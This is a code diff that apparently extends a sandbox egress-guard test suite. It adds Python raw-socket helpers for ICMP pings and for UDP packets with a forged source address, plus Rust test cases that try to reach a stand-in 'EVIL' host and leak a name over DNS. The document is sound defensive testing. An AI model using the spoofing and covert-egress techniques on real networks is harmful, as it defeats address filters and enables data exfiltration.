@@ -57,6 +57,22 @@ def send(host, port, data):
         it.sendto(data, (host, port))
         return len(it.recv(4096))
     return tried(work)
+def raw(protocol, packet, host):
+    def work():
+        it = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
+        it.sendto(packet, (host, 0))
+        return "sent"
+    return tried(work)
+def checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    return ~(total + (total >> 16)) & 0xffff
+def ping(host):
+    echo = lambda sum: struct.pack("!2B3H", 8, 0, sum, 7, 1)
+    return raw(socket.IPPROTO_ICMP, echo(checksum(echo(0))), host)
+def forged(source, host, port):
+    addresses = socket.inet_aton(source) + socket.inet_aton(host)
+    head = struct.pack("!2B3H2BH", 0x45, 0, 29, 1, 0, 64, socket.IPPROTO_UDP, 0)
+    return raw(socket.IPPROTO_RAW, head + addresses + struct.pack("!4H", port, port, 9, 0) + b"x", host)
 def lookup(name):
     return tried(lambda: socket.gethostbyname(name))
 def question(name):
@@ -208,7 +224,17 @@ fn came_to_private(seen: &Seen, internet: &Internet) -> bool {
     came_to(seen, (internet.private(10), 443).into())
 }
 
-const TRIES: [Try; 22] = [
+/// From an address that is not the step's: to get past a filter that goes by addresses.
+fn came_forged(seen: &Seen, internet: &Internet) -> bool {
+    came_to(seen, (internet.address(11), 443).into())
+}
+
+const TRIES: [Try; 25] = [
+    ("ping(EVIL)", "egress", |seen, internet| {
+        seen.pings.contains(&internet.address(11))
+    }),
+    ("forged(ALLOWED, EVIL, 443)", "egress-none", came_forged),
+    ("forged('10.88.0.1', EVIL, 443)", "egress-none", came_forged),
     ("lookup('secret.evil.example')", "egress-names", looked_up_evil),
     (
         "send('10.88.0.1', 53, question('secret.evil.example'))",
@@ -352,6 +378,7 @@ async fn each_guard_is_what_stops_its_tries() {
                 requests: after.requests[before.requests.len()..].to_vec(),
                 connections: after.connections[before.connections.len()..].to_vec(),
                 datagrams: after.datagrams[before.datagrams.len()..].to_vec(),
+                pings: after.pings[before.pings.len()..].to_vec(),
             };
             assert!(
                 came_through(&new, &setting.internet),
